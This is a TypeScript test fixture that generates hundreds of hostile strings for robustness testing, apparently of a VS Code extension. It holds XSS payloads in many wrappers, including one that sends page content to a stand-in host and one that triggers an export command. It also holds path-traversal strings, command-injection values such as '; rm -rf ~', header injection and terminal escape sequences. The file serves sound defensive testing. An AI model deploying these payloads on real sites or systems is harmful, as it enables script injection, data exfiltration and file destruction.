/** Over 800 strings that programs have stumbled over: markup, scripts, terminal escapes, bidirectional controls, names every object has …
 *  Those made of parts are made here; the others are in a fixture, by their kind. */
import kinds from "../fixtures/hostileTexts.json";

const payloads = [
  "globalThis.hostile=1",
  "fetch('https://example.invalid/'+document.body.innerHTML)",
  "parent.postMessage('hostile','*')",
  "acquireVsCodeApi().postMessage({kind:'request',id:1,method:'command/run',params:{command:'tokenscope.exportDataset'}})",
];
const vessels: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `'><img src=x onerror="${script}">`,
  (script) => `<img src=https://example.invalid/a.png onload="${script}">`,
  (script) => `<svg onload="${script}"><a xlink:href="javascript:${script}"/></svg>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<style>@import url(https://example.invalid/a.css);</style><p style="background:url(javascript:${script})">`,
  (script) => `<details open ontoggle="${script}">`,
  (script) => `<object data="data:text/html,<script>${script}</script>">`,
  (script) => `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  (script) => `[x](command:workbench.action.quit?${encodeURIComponent(script)})`,
  (script) => `[x](javascript:${script}) ![x](https://example.invalid/${script})`,
  (script) => `\${${script}} {{${script}}} <%= ${script} %> #{${script}}`,
  (script) => `javascript:${script}//`,
  (script) => `{0} {1} <b>{2}</b> <go>${script}</go>`,
  (script) => `\\u003cscript\\u003e${script}\\u003c/script\\u003e &lt;script&gt;${script}`,
];

const controls = Array.from({ length: 32 }, (_, code) => `control ${String.fromCharCode(code)} ${code}`);
const directions = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"];
const unseen = [
  "\u00ad",
  "\u034f",
  "\u115f",
  "\u17b4",
  "\u180e",
  "\u200b",
  "\u200c",
  "\u200d",
  "\u2060",
  "\u2800",
  "\u3164",
  "\ufe0f",
  "\ufeff",
  "\ufff9",
  "\u{e0001}",
  "\u{e0041}",
  "\u{1d173}",
];
const names = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "__defineGetter__",
  "then",
  "length",
  "name",
  "null",
  "undefined",
  "NaN",
  "Infinity",
  "-0",
  "true",
  "1e309",
  "0x10",
  "[object Object]",
  "function(){}",
];
const paths = [
  "../../etc/passwd",
  "..\\..\\boot.ini",
  "C:\\con\\aux",
  "a\u0000.txt",
  "-rf",
  "--help",
  "$(touch a)",
  "`touch a`",
  "; rm -rf ~",
  "| cat",
  "%00",
  "%s%n%x",
  "file:///etc/passwd",
  "\\\\host\\share",
  "a:stream",
  "CON",
  "nul.txt",
  ".",
  "..",
  " ",
  "~",
  '*?<>|"',
];
const escapes = [
  "\u001b[31mred",
  "\u001b]0;title\u0007",
  "\u001b]8;;https://example.invalid\u0007link",
  "\u009b2J",
  "\u001b[?1049h",
  "\u001bP+q\u001b\\",
  "\r\nSet-Cookie: a=b",
  "\u0008\u0008\u0008gone",
  "\u007f",
  "\u0085next",
];
const marks = [
  "a\u0301",
  "e" + "\u0301".repeat(60),
  "z" + "\u0335\u0336\u0489".repeat(40),
  "\u0e01" + "\u0e49".repeat(30),
  "\u0644\u0640\u064e\u0651",
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}",
  "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
  "\u{1f1e9}\u{1f1ea}\u{1f1e9}",
  "\u05d0\u05d1 abc \u05d2",
  "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 123",
];
const long = [
  "x".repeat(3000),
  "ab".repeat(1500),
  "🐈".repeat(300),
  "﷽".repeat(60),
  "&amp;".repeat(200),
  "(".repeat(500),
  "<".repeat(500),
  "\\".repeat(200),
];

/** Halves of pairs, which a fixture in JSON can't hold for every reader. */
const halves = ["\ud83d", "\udc08", "\udc08\ud83d", "a\ud83d", "\ud83d b", "\ud83d\ud83d\udc08", "\ud83d\u200d\udc08", "\udbff\udfff"];

/** None has a line break of "\n": as lines of one document each stays one. */
export const hostileTexts: readonly string[] = [
  ...vessels.flatMap((vessel) => payloads.map(vessel)),
  ...vessels.flatMap((vessel) => payloads.slice(0, 2).map((script) => vessel(script).toUpperCase())),
  ...vessels.flatMap((vessel) => payloads.slice(0, 1).map((script) => [...vessel(script)].join("\u200b"))),
  ...vessels.flatMap((vessel) => payloads.slice(0, 1).map((script) => `${"\u202e"}${vessel(script)}`)),
  ...controls,
  ...directions.flatMap((mark) => [`${mark}abc`, `user${mark}nimda`, `${mark}${mark}`]),
  ...unseen.flatMap((character) => [character, `a${character}b`, `${character} ${character}`, character.repeat(20)]),
  ...names.flatMap((name) => [name, ` ${name}`, `${name}.${name}`]),
  ...paths.flatMap((path) => [path, `/tmp/${path}`]),
  ...escapes,
  ...marks.flatMap((mark) => [mark, ` ${mark} ${mark}`]),
  ...long,
  ...halves,
  ...Object.values(kinds).flat(),
].map((text) => text.replaceAll("\n", " "));
